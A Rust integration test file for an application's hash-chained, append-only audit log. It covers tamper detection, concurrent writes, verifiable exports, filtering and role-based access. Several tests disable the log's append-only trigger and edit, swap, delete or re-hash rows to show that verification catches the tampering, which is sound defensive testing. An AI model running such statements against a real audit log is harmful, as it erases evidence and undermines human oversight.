//! The audit log people can trust: one chain that concurrent writers never
//! fork, `gatehouse audit verify` naming the first edited, deleted, swapped
//! or rewritten row, exports that parse back and verify, and a page that
//! shows each reader what they may read, filtered and paged by keyset.

use crate::common;

use app::domain::audit::KINDS;
use app::ssr::ports::NewAudit;
use app::ssr::Mode;
use app::views::audit::AuditView;
use common::{audited, count, demo_queue, spawn, TestApp};
use sqlx::PgPool;
use std::process::Command;
use std::sync::Arc;

const BIN: &str = env!("CARGO_BIN_EXE_gatehouse");

/// `DATABASE_URL`'s server, on the test's own database.
async fn url_of(pool: &PgPool) -> String {
    let name: String = sqlx::query_scalar("SELECT current_database()")
        .fetch_one(pool)
        .await
        .expect("name");
    let base = std::env::var("DATABASE_URL").expect("DATABASE_URL");
    let mut url = reqwest::Url::parse(&base).expect("url");
    url.set_path(&format!("/{name}"));
    url.to_string()
}

/// Runs `gatehouse audit verify`; its exit success and what it printed.
async fn verify(pool: &PgPool) -> (bool, String) {
    common::audit_verify(&url_of(pool).await)
}

fn entry(i: usize) -> NewAudit {
    NewAudit {
        kind: "calendar_move",
        team: Some(["frontend", "backend", "mobile"][i % 3].into()),
        subject: Some("2026-12-10".into()),
        summary: format!("Row {i}: \u{201c}quoted\u{201d}, a comma, and\na new line"),
        details: serde_json::json!({ "i": i, "reason": "because; \\ \"so\"" }),
        ..NewAudit::default()
    }
}

async fn seed(pool: &PgPool, rows: usize) {
    let mut conn = pool.acquire().await.expect("conn");
    for i in 0..rows {
        server::adapters::db::audit::append(&mut conn, &entry(i))
            .await
            .expect("append");
    }
    server::adapters::db::audit::chain_pending(pool)
        .await
        .expect("chain");
}

/// Runs `sql` as the schema's owner with the append-only triggers off, as
/// someone with the database's keys would.
async fn tamper(pool: &PgPool, sql: &str) {
    let mut tx = pool.begin().await.expect("tx");
    for s in [
        "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update_or_delete",
        sql,
        "ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update_or_delete",
    ] {
        sqlx::query(s).execute(&mut *tx).await.expect(s);
    }
    tx.commit().await.expect("commit");
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn audit_verify_names_the_first_edited_swapped_rewritten_or_deleted_row(pool: PgPool) {
    seed(&pool, 30).await;
    let (ok, said) = verify(&pool).await;
    assert!(ok, "{said}");
    assert!(said.contains("30 rows, up to row 30"), "{said}");

    // Edited in the middle, then put back.
    let original: String = sqlx::query_scalar("SELECT summary FROM audit_log WHERE seq = 10")
        .fetch_one(&pool)
        .await
        .expect("row 10");
    tamper(
        &pool,
        "UPDATE audit_log SET summary = 'nothing happened' WHERE seq = 10",
    )
    .await;
    let (ok, said) = verify(&pool).await;
    assert!(!ok, "an edited row passes: {said}");
    assert!(said.contains("broken at row 10"), "{said}");
    assert!(said.contains("does not match its hash"), "{said}");
    let recorded: (bool, Option<i64>) =
        sqlx::query_as("SELECT ok, first_bad FROM audit_verifications ORDER BY id DESC LIMIT 1")
            .fetch_one(&pool)
            .await
            .expect("recorded");
    assert_eq!(recorded, (false, Some(10)), "the page learns of it too");
    tamper(
        &pool,
        &format!(
            "UPDATE audit_log SET summary = '{}' WHERE seq = 10",
            original.replace('\'', "''")
        ),
    )
    .await;
    assert!(verify(&pool).await.0, "restored");

    // Two rows swapped, then swapped back.
    let swap = "UPDATE audit_log SET seq = -5 WHERE seq = 5; UPDATE audit_log SET seq = 5 WHERE seq = 6; UPDATE audit_log SET seq = 6 WHERE seq = -5";
    for s in swap.split("; ") {
        tamper(&pool, s).await;
    }
    let (ok, said) = verify(&pool).await;
    assert!(!ok, "swapped rows pass: {said}");
    assert!(said.contains("broken at row 5"), "{said}");
    for s in swap.split("; ") {
        tamper(&pool, s).await;
    }
    assert!(verify(&pool).await.0, "swapped back");

    // Deleted in the middle.
    tamper(&pool, "DELETE FROM audit_log WHERE seq = 15").await;
    let (ok, said) = verify(&pool).await;
    assert!(!ok, "a deleted row passes: {said}");
    assert!(said.contains("broken at row 15"), "{said}");
    assert!(said.contains("missing"), "{said}");
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn a_chain_rewritten_after_a_verification_is_caught_at_the_row_that_verification_saw(
    pool: PgPool,
) {
    seed(&pool, 20).await;
    assert!(verify(&pool).await.0);
    // Someone with the owner's keys edits row 8 and recomputes every hash
    // after it, and the head: each row is self-consistent again.
    tamper(
        &pool,
        "UPDATE audit_log SET summary = 'rewritten' WHERE seq = 8",
    )
    .await;
    for seq in 8..=20 {
        tamper(
            &pool,
            &format!(
                "UPDATE audit_log SET prev_hash = (SELECT hash FROM audit_log WHERE seq = {}) WHERE seq = {seq}",
                seq - 1
            ),
        )
        .await;
        tamper(
            &pool,
            &format!("UPDATE audit_log a SET hash = audit_hash(a) WHERE seq = {seq}"),
        )
        .await;
    }
    sqlx::query("UPDATE audit_chain_head SET hash = (SELECT hash FROM audit_log WHERE seq = 20)")
        .execute(&pool)
        .await
        .expect("head");
    let (ok, said) = verify(&pool).await;
    assert!(!ok, "a rewritten chain passes: {said}");
    assert!(said.contains("broken at row 20"), "{said}");
    assert!(said.contains("rewritten"), "{said}");
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn fifty_people_writing_at_once_make_one_chain_without_gaps(pool: PgPool) {
    let app = Arc::new(demo_queue(pool.clone()).await);
    let pending: Vec<String> = sqlx::query_scalar::<_, uuid::Uuid>(
        "SELECT id FROM approval_requests WHERE state = 'pending' AND environment_id = 'qa' ORDER BY pipeline",
    )
    .fetch_all(&pool)
    .await
    .expect("pending")
    .into_iter()
    .map(|id| id.to_string())
    .collect();
    assert!(pending.len() >= 2, "the demo has QA requests to vote on");
    let before = count(&pool, "SELECT count(*) FROM audit_log").await;
    let qa = Arc::new(app.person("audit.qa", &["qa"]).await);
    let qa2 = Arc::new(app.person("audit.qa2", &["qa"]).await);
    let manager = Arc::new(app.person("audit.manager", &["manager"]).await);
    let start = Arc::new(tokio::sync::Barrier::new(50));
    let mut tasks = Vec::new();
    for i in 0..50 {
        let (app, start, pending) = (app.clone(), start.clone(), pending.clone());
        let (qa, qa2, manager) = (qa.clone(), qa2.clone(), manager.clone());
        tasks.push(tokio::spawn(async move {
            start.wait().await;
            match i % 5 {
                // Votes (rejections need a reason), by two people at once.
                0 | 1 => {
                    let who = if i % 5 == 0 { &qa } else { &qa2 };
                    let request = &pending[i % pending.len()];
                    who.call(
                        "approvals/decide",
                        &[
                            ("request", request),
                            ("decision", "reject"),
                            ("comment", "Not this one"),
                        ],
                    )
                    .await
                    .status()
                    .as_u16()
                }
                // Calendar edits.
                2 => manager
                    .call(
                        "calendar/blackout",
                        &[
                            ("name", &format!("Freeze {i}")),
                            ("first_day", "2031-01-05"),
                            ("last_day", "2031-01-06"),
                            ("reason", "Concurrency"),
                        ],
                    )
                    .await
                    .status()
                    .as_u16(),
                // Sign-ins on browsers of their own.
                3 => {
                    let client = reqwest::Client::builder()
                        .cookie_store(true)
                        .build()
                        .expect("client");
                    client
                        .post(format!("{}/api/demo/sign-in", app.base))
                        .header("Accept", "application/json")
                        .header("Origin", &app.base)
                        .form(&[("login", "priya.raman")])
                        .send()
                        .await
                        .expect("sign in")
                        .status()
                        .as_u16()
                }
                // The system's own rows.
                _ => {
                    app.state.audit.append(&entry(i)).await.expect("append");
                    200
                }
            }
        }));
    }
    for task in tasks {
        let status = task.await.expect("task");
        // A vote on an already decided request is a refusal in words, not
        // a failure.
        assert!(status == 200 || status == 409 || status == 422, "{status}");
    }
    // Writers that found another chaining left their rows to it or to the
    // next pass; wait for that pass.
    server::adapters::db::audit::chain_pending(&pool)
        .await
        .expect("chain");
    let rows = count(&pool, "SELECT count(*) FROM audit_log").await;
    assert!(rows >= before + 40, "{before} -> {rows}");
    let top = count(&pool, "SELECT max(seq) FROM audit_log").await;
    assert_eq!(top, rows, "sequence numbers 1..{rows} with no gap");
    let verified = server::audit::verify_database(&pool, 0)
        .await
        .expect("walk");
    assert_eq!(verified.broken, None);
    assert_eq!(i64::try_from(verified.rows).expect("rows"), rows);
    let (ok, said) = verify(&pool).await;
    assert!(ok, "{said}");
}

/// A browser of `login`'s own, signed in.
async fn reader(app: &TestApp, login: &str) -> reqwest::Client {
    let client = reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client");
    let response = client
        .post(format!("{}/api/demo/sign-in", app.base))
        .header("Accept", "application/json")
        .header("Origin", &app.base)
        .form(&[("login", login)])
        .send()
        .await
        .expect("sign in");
    assert_eq!(response.status(), 200);
    client
}

async fn download(client: &reqwest::Client, url: &str) -> (u16, Vec<u8>) {
    let response = client.get(url).send().await.expect("GET");
    let status = response.status().as_u16();
    (status, response.bytes().await.expect("body").to_vec())
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn an_export_of_100000_rows_parses_back_and_its_hashes_verify(pool: PgPool) {
    let app = spawn(pool.clone(), Mode::Demo).await;
    sqlx::query(
        r#"INSERT INTO audit_log (event, team, summary, details)
           SELECT 'calendar_move', (ARRAY['frontend', 'backend', 'mobile'])[1 + i % 3],
                  'Row ' || i || ', with "quotes", commas' || E'\n' || 'and lines',
                  jsonb_build_object('i', i, 'text', 'x\y')
           FROM generate_series(1, 100000) AS i"#,
    )
    .execute(&pool)
    .await
    .expect("100,000 rows");
    server::adapters::db::audit::chain_pending(&pool)
        .await
        .expect("chained");
    let total = count(&pool, "SELECT count(*) FROM audit_log").await;
    let manager = reader(&app, "morgan.lee").await;
    let total = total + 1; // the manager's sign-in

    let (status, csv) = download(&manager, &format!("{}/audit/export.csv", app.base)).await;
    assert_eq!(status, 200);
    // An independent CSV reader, then the chain walked row by row (the
    // start and end lines are records whose first cell starts with #).
    let mut reader_csv = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(&csv[..]);
    let header: Vec<String> = reader_csv
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header, server::http::audit_export::csv_header());
    let mut walk = server::audit::Walk::default();
    let mut rows = 0;
    let mut markers = Vec::new();
    for record in reader_csv.records() {
        let record = record.expect("record");
        if record[0].starts_with('#') {
            markers.push(record.iter().collect::<Vec<_>>().join(","));
            continue;
        }
        let row = server::audit::ChainRow::from_csv_record(&record).expect("row");
        walk.check(&row).expect("the chain holds");
        rows += 1;
    }
    assert_eq!(rows, total);
    assert_eq!(
        markers,
        [
            format!(
                "#export=start,after_seq=0,after_hash={},filtered=false",
                server::audit::GENESIS
            ),
            format!(
                "#export=end,rows={total},last_seq={},last_hash={}",
                walk.last().0,
                walk.last().1
            )
        ]
    );

    let (status, jsonl) = download(&manager, &format!("{}/audit/export.jsonl", app.base)).await;
    assert_eq!(status, 200);
    let mut walk = server::audit::Walk::default();
    let mut rows = 0;
    for line in jsonl.split(|b| *b == b'\n').filter(|l| !l.is_empty()) {
        let value: serde_json::Value = serde_json::from_slice(line).expect("a JSON object");
        if value.get("export").is_some() {
            continue;
        }
        assert!(value["hash"].as_str().is_some_and(|h| h.len() == 64));
        let row: server::audit::ChainRow = serde_json::from_value(value).expect("row");
        walk.check(&row).expect("the chain holds");
        rows += 1;
    }
    assert!(rows >= total);

    // The offline recipe: `gatehouse audit verify --export`.
    let file = std::env::temp_dir().join(format!("audit-{}.csv", uuid::Uuid::new_v4()));
    std::fs::write(&file, &csv).expect("write");
    let out = Command::new(BIN)
        .args(["audit", "verify", "--export"])
        .arg(&file)
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The README's recipe, written without Gatehouse's code, agrees on
    // both formats.
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../scripts/verify-audit-export.py"
    );
    let lines = std::env::temp_dir().join(format!("audit-{}.jsonl", uuid::Uuid::new_v4()));
    std::fs::write(&lines, &jsonl).expect("write");
    for path in [&file, &lines] {
        let out = Command::new("python3")
            .arg(script)
            .arg(path)
            .output()
            .expect("python3 runs");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(String::from_utf8_lossy(&out.stdout).contains("audit export verified"));
    }
    let _ = std::fs::remove_file(&lines);
    // One byte changed in the file is caught.
    let text = String::from_utf8(csv)
        .expect("utf8")
        .replacen("Row 500,", "Row 501,", 1);
    std::fs::write(&file, text).expect("write");
    let out = Command::new(BIN)
        .args(["audit", "verify", "--export"])
        .arg(&file)
        .output()
        .expect("runs");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("broken at row"));
    let out = Command::new("python3")
        .arg(script)
        .arg(&file)
        .output()
        .expect("python3 runs");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not match its hash"));
    let _ = std::fs::remove_file(&file);

    // Compressed, as browsers ask for it, the stream ends cleanly too.
    let response = manager
        .get(format!(
            "{}/audit/export.csv?kind=calendar_move&team=mobile",
            app.base
        ))
        .header("Accept-Encoding", "gzip")
        .send()
        .await
        .expect("GET");
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-encoding"], "gzip");
    let gzipped = response.bytes().await.expect("the whole compressed body");
    assert_eq!(&gzipped[..2], &[0x1f, 0x8b]);
    let mut csv_text = String::new();
    std::io::Read::read_to_string(
        &mut flate2::read::GzDecoder::new(&gzipped[..]),
        &mut csv_text,
    )
    .expect("a complete gzip stream");
    assert_eq!(
        csv_text
            .lines()
            .filter(|l| l.contains(",calendar_move,"))
            .count(),
        33_333
    );

    // A developer's export holds their team's rows only, and a filtered
    // export verifies row by row.
    let developer = reader(&app, "lena.fischer").await;
    let (status, mine) = download(&developer, &format!("{}/audit/export.jsonl", app.base)).await;
    assert_eq!(status, 200);
    let mine = String::from_utf8(mine).expect("utf8");
    let teams: std::collections::BTreeSet<String> = mine
        .lines()
        .filter(|l| !l.starts_with(r#"{"export""#))
        .map(|l| {
            serde_json::from_str::<server::audit::ChainRow>(l)
                .expect("row")
                .team
                .unwrap_or_default()
        })
        .collect();
    assert_eq!(teams.len(), 1, "{teams:?}");
    let checked = server::http::audit_export::verify_export(mine.as_bytes(), true).expect("reads");
    assert_eq!(checked.verified.broken, None);
    assert!(
        mine.starts_with(r#"{"export":"start","#),
        "{}",
        &mine[..200]
    );
    assert!(mine
        .lines()
        .next()
        .is_some_and(|l| l.ends_with(r#","filtered":true}"#)));
    let stakeholder = reader(&app, "alex.kim").await;
    let (status, said) = download(&stakeholder, &format!("{}/audit/export.csv", app.base)).await;
    assert_eq!(status, 403);
    assert!(String::from_utf8_lossy(&said).contains("stakeholders"));
}

async fn audit_view(client: &reqwest::Client, base: &str, form: &[(&str, &str)]) -> (u16, String) {
    let response = client
        .post(format!("{base}/api/audit"))
        .header("Accept", "application/json")
        .header("Origin", base)
        .form(form)
        .send()
        .await
        .expect("POST");
    let status = response.status().as_u16();
    (status, response.text().await.expect("body"))
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn the_page_leaves_sign_ins_out_until_asked_and_exports_keep_them(pool: PgPool) {
    let app = spawn(pool.clone(), Mode::Demo).await;
    seed(&pool, 3).await;
    let manager = reader(&app, "morgan.lee").await;
    server::adapters::db::audit::chain_pending(&pool)
        .await
        .expect("chained");
    let kinds = |body: &str| -> Vec<String> {
        let view: AuditView = serde_json::from_str(body).expect("json");
        view.rows.into_iter().map(|r| r.kind).collect()
    };
    // The default view: the moves, not the manager's sign-in.
    let (status, body) = audit_view(&manager, &app.base, &[]).await;
    assert_eq!(status, 200, "{body}");
    let shown = kinds(&body);
    assert_eq!(shown.iter().filter(|k| *k == "calendar_move").count(), 3);
    assert!(!shown.iter().any(|k| k == "sign_in"), "{shown:?}");
    // Everything, or sign-ins alone, on request.
    let (_, body) = audit_view(&manager, &app.base, &[("kind", "all")]).await;
    assert!(kinds(&body).iter().any(|k| k == "sign_in"));
    let (_, body) = audit_view(&manager, &app.base, &[("kind", "sign_in")]).await;
    let only = kinds(&body);
    assert!(!only.is_empty() && only.iter().all(|k| k == "sign_in"));
    // The page says what it leaves out and links to everything.
    let page = manager
        .get(format!("{}/audit", app.base))
        .send()
        .await
        .expect("page")
        .text()
        .await
        .expect("html");
    assert!(
        page.contains("Sign-ins and sign-outs are left out"),
        "{page}"
    );
    assert!(page.contains(r#"href="/audit?kind=all""#), "{page}");
    // The export holds every row.
    let (status, csv) = download(&manager, &format!("{}/audit/export.csv", app.base)).await;
    assert_eq!(status, 200);
    assert!(String::from_utf8_lossy(&csv).contains(",sign_in,"));
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn the_page_filters_pages_by_keyset_and_shows_each_reader_what_they_may_read(pool: PgPool) {
    let app = spawn(pool.clone(), Mode::Demo).await;
    seed(&pool, 130).await;
    let manager = reader(&app, "morgan.lee").await;
    // Every calendar_move row exactly once over the pages, newest first.
    let mut seen = Vec::new();
    let mut before: Option<String> = None;
    loop {
        let mut form = vec![("kind", "calendar_move")];
        if let Some(b) = &before {
            form.push(("before", b.as_str()));
        }
        let (status, body) = audit_view(&manager, &app.base, &form).await;
        assert_eq!(status, 200, "{body}");
        let view: AuditView = serde_json::from_str(&body).expect("json");
        assert!(view.rows.len() <= app::views::audit::PAGE_ROWS);
        assert!(view.rows.iter().all(|r| r.kind == "calendar_move"));
        seen.extend(view.rows.iter().map(|r| r.seq));
        match view.next {
            Some(next) => before = Some(next.to_string()),
            None => break,
        }
    }
    assert_eq!(seen.len(), 130);
    assert!(
        seen.windows(2).all(|w| w[0] > w[1]),
        "newest first, no repeats"
    );

    // A time range: today holds them all, tomorrow none.
    let today = chrono::Utc::now().date_naive();
    let (today, tomorrow) = (
        today.to_string(),
        (today + chrono::Days::new(1)).to_string(),
    );
    let (status, body) = audit_view(
        &manager,
        &app.base,
        &[("kind", "calendar_move"), ("from", &today), ("to", &today)],
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let view: AuditView = serde_json::from_str(&body).expect("json");
    assert_eq!(view.rows.len(), app::views::audit::PAGE_ROWS);
    assert!(view.next.is_some());
    let (_, body) = audit_view(&manager, &app.base, &[("from", &tomorrow)]).await;
    let view: AuditView = serde_json::from_str(&body).expect("json");
    assert!(view.rows.is_empty());
    let (_, body) = audit_view(&manager, &app.base, &[("to", "2020-01-01")]).await;
    let view: AuditView = serde_json::from_str(&body).expect("json");
    assert!(view.rows.is_empty());

    // Filters combine; the page's HTML carries them in its links.
    let (status, body) = audit_view(
        &manager,
        &app.base,
        &[("team", "mobile"), ("kind", "calendar_move")],
    )
    .await;
    assert_eq!(status, 200);
    let view: AuditView = serde_json::from_str(&body).expect("json");
    assert!(view
        .rows
        .iter()
        .all(|r| r.team.as_deref() == Some("mobile")));
    let page = manager
        .get(format!("{}/audit?team=mobile&kind=calendar_move", app.base))
        .send()
        .await
        .expect("page")
        .text()
        .await
        .expect("html");
    assert!(page.contains("data-testid=\"audit-row\""), "rows rendered");
    assert!(
        page.contains("/audit/export.csv?team=mobile&amp;kind=calendar_move"),
        "the export keeps the filters"
    );
    let page = manager
        .get(format!("{}/audit?kind=calendar_move", app.base))
        .send()
        .await
        .expect("page")
        .text()
        .await
        .expect("html");
    assert!(
        page.contains("/audit?kind=calendar_move&amp;before="),
        "the older link keeps the filters"
    );

    // A developer sees their team's rows only; a stakeholder is told why
    // not; nonsense filters are refused in words.
    let developer = reader(&app, "lena.fischer").await;
    let (status, body) = audit_view(&developer, &app.base, &[]).await;
    assert_eq!(status, 200);
    let view: AuditView = serde_json::from_str(&body).expect("json");
    let mine = view.limited_to.clone().expect("limited");
    assert!(!view.rows.is_empty());
    assert!(view
        .rows
        .iter()
        .all(|r| r.team.as_ref().is_some_and(|t| mine.contains(t))));
    let stakeholder = reader(&app, "alex.kim").await;
    let (status, body) = audit_view(&stakeholder, &app.base, &[]).await;
    assert_eq!(status, 403);
    assert!(body.contains("stakeholders"), "{body}");
    let page = stakeholder
        .get(format!("{}/audit", app.base))
        .send()
        .await
        .expect("page");
    assert_eq!(page.status(), 403);
    assert!(page.text().await.expect("html").contains("Not allowed"));
    for (field, value, words) in [
        ("kind", "nonsense", "is not a kind of audit row"),
        ("person", "lena.fischer", "person's id"),
        ("from", "yesterday", "is not a date"),
        ("before", "-3", "not a row number"),
    ] {
        let (status, body) = audit_view(&manager, &app.base, &[(field, value)]).await;
        assert_eq!(status, 400, "{field}={value}: {body}");
        assert!(body.contains(words), "{body}");
    }
    let long = "x".repeat(5000);
    let (status, _) = audit_view(&manager, &app.base, &[("service", &long)]).await;
    assert_eq!(status, 400);
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn sign_ins_calendar_changes_votes_and_deliveries_are_audited_and_found_by_kind(
    pool: PgPool,
) {
    let app = demo_queue(pool.clone()).await;
    // The org configuration applied at start.
    let org = audited(&app, "org_config", "org configuration was applied").await;
    assert!(org.details.iter().any(|(k, _)| k == "Diff"));

    // Sign-in, a refused sign-in, sign-out.
    app.sign_in("morgan.lee").await;
    audited(&app, "sign_in", "Morgan Lee signed in").await;
    let refused = app.call("demo/sign-in", &[("login", "mallory")]).await;
    assert_eq!(refused.status(), 404);
    audited(&app, "sign_in_refused", "mallory").await;

    // A milestone moved and a blackout added.
    let day = (chrono::Utc::now().date_naive() + chrono::Days::new(3)).to_string();
    let moved = app
        .call(
            "calendar/move",
            &[
                ("release", "1"),
                ("milestone", "release-demo"),
                ("team", "mobile"),
                ("date", &day),
                ("time", "15:00"),
                ("reason", "Store review"),
            ],
        )
        .await;
    assert_eq!(
        moved.status(),
        200,
        "{}",
        moved.text().await.unwrap_or_default()
    );
    let row = audited(
        &app,
        "calendar_move",
        "Morgan Lee moved Release 1's Release demo (mobile)",
    )
    .await;
    assert_eq!(row.team.as_deref(), Some("mobile"));
    assert!(row
        .details
        .iter()
        .any(|(k, v)| k == "Reason" && v == "Store review"));
    assert_eq!(row.link().map(|l| l.1), Some("calendar".into()));
    let blackout = app
        .call(
            "calendar/blackout",
            &[
                ("name", "Audit week"),
                ("first_day", "2031-02-01"),
                ("last_day", "2031-02-03"),
                ("reason", "Auditors in"),
            ],
        )
        .await;
    assert_eq!(blackout.status(), 200);
    audited(&app, "calendar_blackout", "Audit week").await;
    let out = app.call("sign-out", &[]).await;
    assert_eq!(out.status(), 200);
    audited(&app, "sign_out", "Morgan Lee signed out").await;

    // A QA approval: requested, vote, decision, delivered.
    app.sign_in("priya.raman").await;
    let queue = app.approvals().await;
    let item = &queue
        .pending
        .iter()
        .find(|q| q.item.pipeline == "orders-api-qa")
        .expect("a QA request")
        .item;
    let mut form = vec![("request", item.id.as_str()), ("decision", "approve")];
    for t in app::domain::TestType::ALL {
        form.push(("passed[]", t.as_str()));
    }
    let voted = app.call("approvals/decide", &form).await;
    assert_eq!(voted.status(), 200);
    app.poll().await;
    audited(&app, "requested", "orders-api-qa is waiting for approval").await;
    let vote = audited(&app, "vote", "Priya Raman voted: approved on orders-api-qa").await;
    assert_eq!(vote.service.as_deref(), Some("orders-api"));
    assert_eq!(vote.environment.as_deref(), Some("qa"));
    assert_eq!(vote.team.as_deref(), Some("backend"));
    assert!(vote
        .link()
        .expect("link")
        .0
        .starts_with("/approvals?request="));
    audited(&app, "decision", "orders-api-qa approved").await;
    audited(
        &app,
        "aws_delivered",
        "CodePipeline took the decision on orders-api-qa (approved)",
    )
    .await;

    // A person filter finds Priya's rows and nobody else's.
    let priya = vote.actor_id.clone().expect("an actor id");
    let rows = app
        .state
        .audit
        .page(&app::domain::audit::AuditQuery {
            person: Some(priya.clone()),
            limit: 100,
            ..Default::default()
        })
        .await
        .expect("page");
    assert!(rows
        .iter()
        .all(|r| r.actor_id.as_deref() == Some(priya.as_str())));
    assert!(rows.iter().any(|r| r.kind == "sign_in"));

    // Every kind has words on the page.
    for (kind, words) in KINDS {
        assert!(!words.is_empty(), "{kind}");
    }
    let verified = server::audit::verify_database(&pool, 0)
        .await
        .expect("walk");
    assert_eq!(verified.broken, None);
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn a_decision_codepipeline_refuses_for_good_is_audited_as_failed(pool: PgPool) {
    use server::simulators::codepipeline::{Faults, PipelineSpec};
    let app = demo_queue(pool.clone()).await;
    let sim = app.simulator.clone().expect("simulator");
    // The decision cannot be sent yet; meanwhile someone renames the
    // pipeline's approval action in CodePipeline.
    sim.set_faults(Faults {
        server_errors: 100,
        operation: Some("GetPipelineState".into()),
        ..Faults::default()
    });
    app.sign_in("priya.raman").await;
    let queue = app.approvals().await;
    let id = queue
        .pending
        .iter()
        .find(|q| q.item.pipeline == "payments-service-qa")
        .expect("a QA request")
        .item
        .id
        .clone();
    let voted = app
        .call(
            "approvals/decide",
            &[
                ("request", &id),
                ("decision", "approve"),
                ("passed[]", "qa"),
            ],
        )
        .await;
    assert_eq!(voted.status(), 200);
    sim.set_faults(Faults::default());
    sim.add_pipeline(PipelineSpec {
        name: "payments-service-qa".into(),
        repository: "acme-retail/payments-service".into(),
        branch: "release/2027.01".into(),
        approval: Some(("Approval".into(), "QAGate".into())),
    });
    app.poll().await;
    let outcome: Option<String> =
        sqlx::query_scalar("SELECT outcome FROM approval_deliveries WHERE request_id = $1::uuid")
            .bind(&id)
            .fetch_one(&pool)
            .await
            .expect("delivery");
    assert_eq!(outcome.as_deref(), Some("failed"));
    let row = audited(
        &app,
        "aws_failed",
        "CodePipeline refused the decision on payments-service-qa",
    )
    .await;
    assert!(row
        .details
        .iter()
        .any(|(k, _)| k == "CodePipeline answered"));
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn a_changed_org_configuration_is_audited_at_start_as_a_diff(pool: PgPool) {
    let app = spawn(pool.clone(), Mode::Demo).await;
    let org = app.state.org.load_org().await.expect("org");
    let mut changed = (*org).clone();
    changed.teams[2].name = app::domain::DisplayName::parse("Mobile Apps").expect("name");
    changed.services.retain(|s| s.id.as_str() != "android-app");
    server::adapters::db::sync_org(&pool, &changed, std::path::Path::new("config/org.toml"))
        .await
        .expect("sync");
    let row = audited(&app, "org_config", "The org configuration changed at start").await;
    let diff = row
        .details
        .iter()
        .find(|(k, _)| k == "Diff")
        .map(|(_, v)| v.clone())
        .expect("diff");
    assert!(diff.contains("teams[mobile].name"), "{diff}");
    assert!(diff.contains("Mobile Apps"), "{diff}");
    assert!(diff.contains("services[android-app]"), "{diff}");
    // The same configuration again changes nothing and writes nothing.
    let before = count(
        &pool,
        "SELECT count(*) FROM audit_log WHERE event = 'org_config'",
    )
    .await;
    server::adapters::db::sync_org(&pool, &changed, std::path::Path::new("config/org.toml"))
        .await
        .expect("sync");
    assert_eq!(
        count(
            &pool,
            "SELECT count(*) FROM audit_log WHERE event = 'org_config'"
        )
        .await,
        before
    );
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn archived_rows_removed_by_the_owner_as_the_readme_says_leave_a_chain_that_verifies(
    pool: PgPool,
) {
    seed(&pool, 25).await;
    assert!(verify(&pool).await.0);
    // README, Retention: record the last archived row, then remove the
    // rows up to it, as the schema's owner, in one transaction.
    let mut tx = pool.begin().await.expect("tx");
    for sql in [
        "INSERT INTO audit_archives (up_to, hash, location) SELECT seq, hash, 'file:///archive/audit-1-10.jsonl' FROM audit_log WHERE seq = 10",
        "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update_or_delete",
        "DELETE FROM audit_log WHERE seq <= 10",
        "ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update_or_delete",
    ] {
        sqlx::query(sql).execute(&mut *tx).await.expect(sql);
    }
    tx.commit().await.expect("commit");
    let (ok, said) = verify(&pool).await;
    assert!(ok, "{said}");
    assert!(said.contains("15 rows, up to row 25"), "{said}");
    // What is left is still checked.
    tamper(&pool, "UPDATE audit_log SET summary = 'x' WHERE seq = 11").await;
    let (ok, said) = verify(&pool).await;
    assert!(!ok);
    assert!(said.contains("broken at row 11"), "{said}");
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn a_row_its_writer_left_unchained_is_chained_and_can_only_be_chained(pool: PgPool) {
    let _app = spawn(pool.clone(), Mode::Demo).await;
    seed(&pool, 3).await;
    // A writer that died between its commit and chaining its rows.
    sqlx::query("INSERT INTO audit_log (event, summary) VALUES ('calendar_move', 'left behind')")
        .execute(&pool)
        .await
        .expect("insert");
    // Until it is chained, it can be chained and nothing else, even by the
    // schema's owner: not edited.
    if let Err(err) = sqlx::query(
        "UPDATE audit_log SET summary = 'edited' WHERE summary = 'left behind' AND seq IS NULL",
    )
    .execute(&pool)
    .await
    {
        assert!(err.to_string().contains("append-only"), "{err}");
    }
    // Every process chains what was left within a second or so.
    let started = std::time::Instant::now();
    loop {
        let seq: Option<i64> =
            sqlx::query_scalar("SELECT seq FROM audit_log WHERE summary = 'left behind'")
                .fetch_one(&pool)
                .await
                .expect("row");
        if seq.is_some() {
            break;
        }
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "chained within seconds"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(
        count(
            &pool,
            "SELECT count(*) FROM audit_log WHERE summary = 'edited'"
        )
        .await,
        0
    );
    let verified = server::audit::verify_database(&pool, 0)
        .await
        .expect("walk");
    assert_eq!(verified.broken, None);
    let rows = count(&pool, "SELECT count(*) FROM audit_log").await;
    assert_eq!(i64::try_from(verified.rows).expect("rows"), rows);
    // Once chained, no change at all.
    let refused = sqlx::query(
        "UPDATE audit_log SET at = at + interval '1 day' WHERE summary = 'left behind'",
    )
    .execute(&pool)
    .await;
    assert!(refused.is_err(), "a chained row stays as it is");
}

/// Both offline verifiers on an export: `gatehouse audit verify --export`
